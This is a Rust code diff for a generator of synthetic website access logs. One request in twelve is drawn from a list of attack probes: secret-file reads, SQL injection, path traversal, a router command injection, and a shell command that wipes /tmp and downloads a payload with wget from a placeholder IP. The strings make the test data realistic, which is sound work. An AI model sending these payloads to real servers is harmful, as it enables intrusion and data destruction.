@@ -1,91 +1,139 @@
-//! A large log like those that sites have, drawn from one seed.
+//! Large logs like those that sites have, drawn from one seed.
+
+mod chance;
+mod visitors;
 
 use std::fs::File;
 use std::io::{self, BufWriter, Write};
 use std::path::Path;
 
-use guestbook::classify::Catalogue;
+use chance::{Chance, Zipf};
+use visitors::Visitors;
 
-/// Distinct user agents, of which agents have a third.
-const USER_AGENTS: usize = 12_000;
+/// The first second of every log: 2026-04-01 in UTC. They end 30 days later.
+const START: i64 = 1_775_001_600;
+const DAYS: u64 = 30;
 
-const TERMS: u64 = 400;
+const BLOG_PAGES: usize = 900;
 
-/// SplitMix64.
-struct Chance(u64);
+/// What attackers try, with a number for each `#`.
+const ATTACKS: [&str; 12] = [
+    "/wp-login.php",
+    "/.env",
+    "/.git/config",
+    "/wp-content/plugins/#/readme.txt",
+    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
+    "/?s=/index/#/invokefunction&function=call_user_func_array",
+    "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id#)",
+    "/index.php?id=#%27%20UNION%20SELECT%201,2,3--",
+    "/backup-#.zip",
+    "/boaform/admin/formLogin?username=admin&psd=#",
+    "/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.#/jaws",
+    "/..%2f..%2f..%2fetc/passwd?#",
+];
 
-impl Chance {
-    fn next(&mut self) -> u64 {
-        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
-        let mut z = self.0;
-        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
-        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
-        z ^ (z >> 31)
+/// One request, as a server would log it.
+pub(crate) struct Request {
+    /// Seconds since the Unix epoch.
+    pub(crate) time: i64,
+    pub(crate) ip: String,
+    pub(crate) method: &'static str,
+    /// Path and query.
+    pub(crate) target: String,
+    pub(crate) status: u16,
+    pub(crate) bytes: u64,
+    pub(crate) referrer: &'static str,
+    pub(crate) user_agent: String,
+}
+
+/// A site with its visitors.
+pub(crate) struct Site {
+    chance: Chance,
+    visitors: Visitors,
+    terms: Zipf,
+    pages: Zipf,
+}
+
+impl Site {
+    /// A site of so many terms. The same number gives the same requests on every machine.
+    pub(crate) fn new(terms: usize) -> Site {
+        let mut chance = Chance::new(20_260_520);
+        let visitors = Visitors::new(&mut chance);
+        Site { chance, visitors, terms: Zipf::new(terms), pages: Zipf::new(BLOG_PAGES) }
     }
 
-    fn below(&mut self, bound: u64) -> u64 {
-        self.next() % bound
+    /// The request at a place in a log of so many.
+    pub(crate) fn request(&mut self, at: u64, of: u64) -> Request {
+        let time = START + (at * DAYS * 86_400 / of) as i64;
+        // A third are agents; one request in twelve is an attack.
+        let is_agent = self.chance.below(3) == 0;
+        let chance = &mut self.chance;
+        let (status, target) = match chance.below(24) {
+            0..2 => return self.attack(time),
+            2..12 => (self.answer(), format!("/glossary/term-{}", self.terms.draw(&mut self.chance))),
+            12..20 if !is_agent => (200, format!("/static/{}.{}.js", chance.below(60), chance.below(9))),
+            20 if is_agent => (200, "/robots.txt".to_owned()),
+            21 => (self.answer(), format!("/blog/{}?page={}", self.pages.draw(&mut self.chance), 1 + at % 9)),
+            _ => (self.answer(), format!("/blog/{}", self.pages.draw(&mut self.chance))),
+        };
+        let chance = &mut self.chance;
+        let referrer = match chance.below(12) {
+            0..2 => "https://www.google.com/",
+            2 => "https://chatgpt.com/",
+            3..6 => "https://glossary.example/glossary/",
+            _ => "-",
+        };
+        Request {
+            time,
+            ip: self.visitors.address(chance),
+            method: if chance.below(50) == 0 { "HEAD" } else { "GET" },
+            target,
+            status,
+            bytes: chance.below(60_000),
+            referrer: if is_agent { "-" } else { referrer },
+            user_agent: self.visitors.user_agent(is_agent, chance).to_owned(),
+        }
     }
 
-    /// Below `bound`, the small ones far more often.
-    fn skewed(&mut self, bound: u64) -> u64 {
-        let fraction = self.next() as f64 / u64::MAX as f64;
-        ((fraction * fraction * fraction) * bound as f64) as u64
+    fn answer(&mut self) -> u16 {
+        match self.chance.below(20) {
+            0 => 301,
+            1..3 => 304,
+            3 => 404,
+            _ => 200,
+        }
+    }
+
+    fn attack(&mut self, time: i64) -> Request {
+        let chance = &mut self.chance;
+        let target = ATTACKS[chance.below(ATTACKS.len() as u64) as usize];
+        Request {
+            time,
+            ip: self.visitors.address(chance),
+            method: if chance.below(4) == 0 { "POST" } else { "GET" },
+            target: target.replace('#', &chance.below(3_000).to_string()),
+            status: if chance.below(9) == 0 { 403 } else { 404 },
+            bytes: chance.below(2_000),
+            referrer: "-",
+            user_agent: self.visitors.attacker(chance).to_owned(),
+        }
     }
 }
 
-/// Writes `lines` lines of the combined format: 30 days, in order.
-pub(crate) fn write(path: &Path, lines: u64) -> io::Result<()> {
+/// Writes `lines` lines of the combined format, in the order of time.
+pub(crate) fn write(path: &Path, lines: u64, terms: usize) -> io::Result<()> {
     let mut out = BufWriter::with_capacity(1 << 20, File::create(path)?);
-    let mut chance = Chance(20_260_520);
-    let (agents, people) = user_agents(&mut chance);
+    let mut site = Site::new(terms);
     for at in 0..lines {
-        let seconds = at * 30 * 86_400 / lines;
-        let (day, hour) = (1 + seconds / 86_400, seconds / 3_600 % 24);
-        let (minute, second) = (seconds / 60 % 60, seconds % 60);
-        let is_agent = chance.below(3) == 0;
-        let list = if is_agent { &agents } else { &people };
-        let user_agent = &list[chance.skewed(list.len() as u64) as usize];
-        let (status, path) = target(&mut chance);
-        let referrer = if chance.below(3) == 0 { "https://www.google.com/" } else { "-" };
-        let (net, host, bytes) = (chance.below(256), chance.below(256), chance.below(60_000));
+        let Request { time, ip, method, target, status, bytes, referrer, user_agent } =
+            site.request(at, lines);
+        let (day, second) = ((time - START) / 86_400 + 1, (time - START) % 86_400);
+        let (hour, minute, second) = (second / 3_600, second / 60 % 60, second % 60);
         writeln!(
             out,
-            "203.0.{net}.{host} - - [{day:02}/Apr/2026:{hour:02}:{minute:02}:{second:02} +0000] \"GET {path} HTTP/1.1\" \
+            "{ip} - - [{day:02}/Apr/2026:{hour:02}:{minute:02}:{second:02} +0000] \"{method} {target} HTTP/1.1\" \
              {status} {bytes} \"{referrer}\" \"{user_agent}\""
         )?;
     }
     out.flush()
-}
-
-/// Terms, assets, other pages, and what scanners ask for.
-fn target(chance: &mut Chance) -> (u16, String) {
-    match chance.below(10) {
-        0..4 => (200, format!("/glossary/term-{}", chance.skewed(TERMS))),
-        4 => (304, format!("/glossary/term-{}", chance.skewed(TERMS))),
-        5..8 => (200, format!("/static/{}.{}.js", chance.below(60), chance.below(9))),
-        8 => (200, format!("/blog/{}/?page={}", chance.skewed(900), chance.below(20))),
-        _ => (404, format!("/wp-content/plugins/{}/{}.php", chance.below(3000), chance.below(40))),
-    }
-}
-
-/// The catalogue's samples with many versions, and browsers with many versions.
-fn user_agents(chance: &mut Chance) -> (Vec<String>, Vec<String>) {
-    let catalogue = Catalogue::with(Vec::new()).expect("the built-in catalogue");
-    let samples: Vec<&String> =
-        catalogue.agents().iter().flat_map(|agent| &agent.entry.samples).collect();
-    let third = USER_AGENTS / 3;
-    let agents = (0..third).map(|at| match at / samples.len() {
-        0 => samples[at].clone(),
-        more => format!("{} rv:{more}", samples[at % samples.len()]),
-    });
-    let agents = agents.collect();
-    let people = (0..USER_AGENTS - third).map(|at| {
-        let (major, build, patch) = (90 + at % 50, 4000 + at, chance.below(200));
-        format!(
-            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) \
-             Chrome/{major}.0.{build}.{patch} Safari/537.36"
-        )
-    });
-    (agents, people.collect())
 }
